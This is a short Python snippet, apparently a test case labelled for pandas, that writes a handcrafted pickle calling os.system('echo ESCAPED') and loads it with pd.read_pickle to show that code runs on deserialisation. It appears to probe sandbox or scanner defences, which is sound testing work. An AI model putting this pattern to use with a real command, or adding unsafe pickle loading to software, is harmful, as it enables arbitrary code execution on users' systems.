# kind: pandas
# effect: prints ESCAPED
import pandas as pd

with open("/tmp/table.pkl", "wb") as f:
    f.write(b"cos\nsystem\n(S'echo ESCAPED'\ntR.")
pd.read_pickle("/tmp/table.pkl")
